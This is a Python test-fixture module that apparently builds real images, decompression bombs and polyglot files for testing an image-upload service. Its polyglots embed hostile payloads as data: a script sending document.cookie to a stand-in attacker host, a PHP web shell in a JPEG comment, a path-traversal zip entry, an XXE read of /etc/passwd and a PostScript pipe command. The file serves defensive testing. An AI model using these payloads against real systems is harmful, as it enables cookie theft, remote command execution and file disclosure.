"""Files that are made to hurt: real images in every format, bombs and polyglots. Nothing here is random.

A bomb is small and costs much when it is believed: sides, frames, tiles, chunks or scans by the million. A polyglot is
two files in one, of which a browser may see the other.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import cv2
import numpy as np
from PIL import Image

_PNG = b"\x89PNG\r\n\x1a\n"
_SCRIPT = b"<script>fetch('//attacker.invalid/'+document.cookie)</script>"


@cache
def real_images() -> dict[str, bytes]:
    """Returns encodings of one picture of 64×48 px by name: every format and mode that the service takes."""
    picture = _picture()
    grey, palette = picture.convert("L"), picture.quantize(32)
    alpha = picture.copy()
    alpha.putalpha(128)
    frames = [picture.rotate(angle) for angle in (0, 90, 180)]
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: turned by 90°.
    save = _encode
    return {
        "jpeg": save(picture, "JPEG", quality=85),
        "jpeg-progressive": save(picture, "JPEG", progressive=True),
        "jpeg-grey": save(grey, "JPEG"),
        "jpeg-cmyk": save(picture.convert("CMYK"), "JPEG"),
        "jpeg-exif": save(picture, "JPEG", exif=exif),
        "jpeg-restarts": save(picture, "JPEG", restart_marker_blocks=2),
        "png": save(picture, "PNG"),
        "png-alpha": save(alpha, "PNG"),
        "png-palette": save(palette, "PNG"),
        "png-16": _png_16(),
        "png-interlaced": _png_interlaced(),
        "png-animated": save(frames[0], "PNG", save_all=True, append_images=frames[1:]),
        "webp": save(picture, "WEBP", quality=80),
        "webp-lossless": save(alpha, "WEBP", lossless=True),
        "webp-exif": save(picture, "WEBP", exif=exif),
        "webp-animated": save(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
        "bmp": save(picture, "BMP"),
        "bmp-palette": save(palette, "BMP"),
        "bmp-1": save(picture.convert("1"), "BMP"),
        "gif": save(palette, "GIF"),
        "gif-animated": save(frames[0], "GIF", save_all=True, append_images=frames[1:]),
        "tiff": save(picture, "TIFF"),
        "tiff-lzw": save(picture, "TIFF", compression="tiff_lzw"),
        "tiff-deflate": save(alpha, "TIFF", compression="tiff_adobe_deflate"),
        "tiff-jpeg": save(picture, "TIFF", compression="jpeg"),
        "tiff-1": save(picture.convert("1"), "TIFF", compression="packbits"),
        "tiff-16": save(Image.fromarray(np.arange(64 * 48, dtype=np.uint16).reshape(48, 64)), "TIFF"),
        "tiff-pages": save(frames[0], "TIFF", save_all=True, append_images=frames[1:]),
    }


@cache
def bombs() -> dict[str, bytes]:
    """Returns small files that promise, or unfold to, far more than they weigh."""
    images = real_images()
    return {
        "png-huge-sides": png_with_size(images["png"], 60_000, 60_000),
        "png-largest-sides": png_with_size(images["png"], 2**31 - 1, 2**31 - 1),
        "png-one-long-row": png_with_size(images["png"], 39_999_999, 1),
        "png-deflate": _deflate_bomb(12_000, 12_000),
        "png-deflate-within-the-limit": _deflate_bomb(6_000, 6_000),
        "png-text": _with_chunk(images["png"], b"zTXt", b"k\0\0" + zlib.compress(bytes(20_000_000), 9)),
        "png-profile": _with_chunk(images["png"], b"iCCP", b"k\0\0" + zlib.compress(bytes(20_000_000), 9)),
        "png-chunks": _with_chunk(images["png"], b"tEXt", b"k\0v", times=50_000),
        "png-orientations": _with_chunk(images["png"], b"eXIf", b"junk", times=9_000),
        "png-frames": _with_chunk(images["png-animated"], b"acTL", struct.pack(">II", 2**31 - 1, 0)),
        "jpeg-huge-sides": jpeg_with_size(images["jpeg"], 65_500, 65_500),
        "jpeg-scans": _with_scans(images["jpeg-progressive"], 20_000),
        "jpeg-segments": images["jpeg"][:2] + b"\xff\xfe\x00\x03x" * 100_000 + images["jpeg"][2:],
        "jpeg-padding": images["jpeg"][:2] + b"\xff" * 1_000_000 + images["jpeg"][2:],
        "gif-comment": _with_gif_comment(images["gif"], 1_000_000),
        "gif-frames": _gif_bomb(images["gif"], 50_000),
        "gif-huge-screen": _patched(images["gif"], 6, struct.pack("<HH", 65_535, 65_535)),
        "gif-huge-frame": images["gif"][:6] + struct.pack("<HH", 60_000, 60_000) + images["gif"][10:],
        "bmp-huge-sides": _patched(images["bmp"], 18, struct.pack("<ii", 50_000, 50_000)),
        "bmp-negative-sides": _patched(images["bmp"], 18, struct.pack("<ii", -(2**31), -(2**31))),
        "webp-huge-canvas": _webp_canvas(images["webp-animated"], 16_383, 16_383),
        "tiff-huge-sides": _tiff(60_000, 60_000),
        "tiff-tiles": _tiff(16, 16, tile_px=40_000),
        "tiff-strips": _tiff(64, 64, rows_per_strip=1, claimed_strips=2**28),
        "tiff-loop": _tiff(64, 64, loops=True),
        "tiff-fax": _tiff(8, 65_535, compression=2, bits=1),
    }


@cache
def polyglots() -> dict[str, bytes]:
    """Returns files that are two things at once, and files that are something else altogether."""
    images = real_images()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("../../../etc/passwd", "root::0:0::/:/bin/sh")
        written.writestr("zeros", bytes(10_000_000))
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    entity = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    gif = images["gif"]
    return {
        "gif-javascript": b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)//",
        "gif-html": gif + _SCRIPT,
        "jpeg-html": images["jpeg"] + _SCRIPT,
        "jpeg-comment-php": images["jpeg"][:2] + _segment(0xFE, b"<?php system($_GET['c']); ?>") + images["jpeg"][2:],
        "pdf-jpeg": pdf + images["jpeg"],
        "jpeg-pdf": images["jpeg"] + pdf,
        "png-zip": images["png"] + archive.getvalue(),
        "zip-png": archive.getvalue() + images["png"],
        "png-html-text": _with_chunk(images["png"], b"tEXt", b"Comment\0" + _SCRIPT),
        "bmp-javascript": b"BM/*" + images["bmp"][4:] + b"*/=1",
        "svg": svg,
        "svg-entity": entity,
        "html": b"<!doctype html>" + _SCRIPT,
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9999999 9999999\n(%pipe%id) (w) file\n",
        "png-then-jpeg": images["png"][:200] + images["jpeg"],
        "zeros": bytes(100_000),
        "ones": b"\xff" * 100_000,
        "newlines": b"\r\n" * 10_000,
        "boundary-like": b"\r\n--boundary--\r\n" * 1_000,
        "heif": b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(100),
        "jpeg2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(100),
        "dicom": bytes(128) + b"DICM" + bytes(100),
        "icon": b"\0\0\1\0\1\0\0\0\0\0\1\0\x20\0\xff\xff\xff\x7f\x16\0\0\0",
    }


def png_with_size(data: bytes, width_px: int, height_px: int) -> bytes:
    """Returns a PNG whose header promises other sides, with a checksum that fits."""
    header = struct.pack(">II", width_px, height_px) + data[24:29]
    return data[:16] + header + struct.pack(">I", zlib.crc32(b"IHDR" + header)) + data[33:]


def jpeg_with_size(data: bytes, width_px: int, height_px: int) -> bytes:
    """Returns a JPEG whose first frame header promises other sides; unchanged where there is none."""
    for marker in (b"\xff\xc0", b"\xff\xc1", b"\xff\xc2"):
        at = data.find(marker)
        if at >= 0:
            return _patched(data, at + 5, struct.pack(">HH", height_px, width_px))
    return data


def _picture() -> Image.Image:
    y, x = np.mgrid[0:48, 0:64]
    waves = [np.sin(x / 5 + y / 9), np.cos(x / 7 - y / 4), np.sin((x + y) / 11)]
    return Image.fromarray((np.stack(waves, axis=2) * 100 + 128).astype(np.uint8))


def _encode(picture: Image.Image, image_format: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, image_format, **options)
    return buffer.getvalue()


def _png_16() -> bytes:
    samples = np.asarray(_picture()).astype(np.uint16) * 257
    return cv2.imencode(".png", samples)[1].tobytes()


def _png_interlaced() -> bytes:
    """Writes an Adam7 PNG by hand: neither library writes one."""
    pixels = np.asarray(_picture())
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
    rows = b"".join(
        b"\0" + row.tobytes() for left, top, right, down in passes for row in pixels[top::down, left::right]
    )
    header = struct.pack(">IIBBBBB", pixels.shape[1], pixels.shape[0], 8, 2, 0, 0, 1)
    return _PNG + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _with_chunk(png: bytes, kind: bytes, content: bytes, *, times: int = 1) -> bytes:
    return png[:33] + _chunk(kind, content) * times + png[33:]


def _deflate_bomb(width_px: int, height_px: int) -> bytes:
    """A PNG that is complete and honest: black, with a thousandth of its size in bytes."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 3 * width_px)
    packed = b"".join(packer.compress(row) for _ in range(height_px)) + packer.flush()
    header = struct.pack(">IIBBBBB", width_px, height_px, 8, 2, 0, 0, 0)
    return _PNG + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _segment(marker: int, content: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content


def _with_scans(progressive: bytes, scans: int) -> bytes:
    """Repeats the last scan of a progressive JPEG."""
    last = progressive.rfind(b"\xff\xda")
    return progressive[:last] + progressive[last:-2] * scans + progressive[-2:]


def _gif_bomb(gif: bytes, frames: int) -> bytes:
    """Puts frames of one pixel before a GIF's end."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x4c\x01\x00"
    return gif[:-1] + frame * frames + gif[-1:]


def _with_gif_comment(gif: bytes, blocks: int) -> bytes:
    """Puts a comment of one letter a block behind a GIF's colours."""
    end = 13 + (3 << (gif[10] & 7) + 1)
    return gif[:end] + b"\x21\xfe" + b"\x01a" * blocks + b"\0" + gif[end:]


def _webp_canvas(webp: bytes, width_px: int, height_px: int) -> bytes:
    at = webp.find(b"VP8X")
    sides = (width_px - 1).to_bytes(3, "little") + (height_px - 1).to_bytes(3, "little")
    return _patched(webp, at + 12, sides)


def _tiff(
    width_px: int,
    height_px: int,
    *,
    tile_px: int | None = None,
    rows_per_strip: int | None = None,
    claimed_strips: int = 1,
    compression: int = 8,
    bits: int = 8,
    loops: bool = False,
) -> bytes:
    """Writes a little-endian TIFF of grey pixels whose directory says whatever is asked of it."""
    content = zlib.compress(bytes(4096))
    tags: list[tuple[int, int, int, int]] = [
        (256, 4, 1, width_px),
        (257, 4, 1, height_px),
        (258, 3, 1, bits),
        (259, 3, 1, compression),
        (262, 3, 1, 1),
        (277, 3, 1, 1),
    ]
    if tile_px is not None:
        tags += [(322, 4, 1, tile_px), (323, 4, 1, tile_px), (324, 4, 1, 8), (325, 4, 1, len(content))]
    else:
        tags += [(273, 4, claimed_strips, 8), (278, 4, 1, rows_per_strip or height_px)]
        tags += [(279, 4, claimed_strips, len(content))]
    directory = 8 + len(content)
    entries = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    following = directory if loops else 0
    head = b"II*\0" + struct.pack("<I", directory) + content
    return head + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)


def _patched(data: bytes, at: int, patch: bytes) -> bytes:
    return data[:at] + patch + data[at + len(patch) :]


FAMILIES: dict[str, Callable[[], dict[str, bytes]]] = {"bomb": bombs, "polyglot": polyglots, "real": real_images}
"""Name of a family to what makes it."""
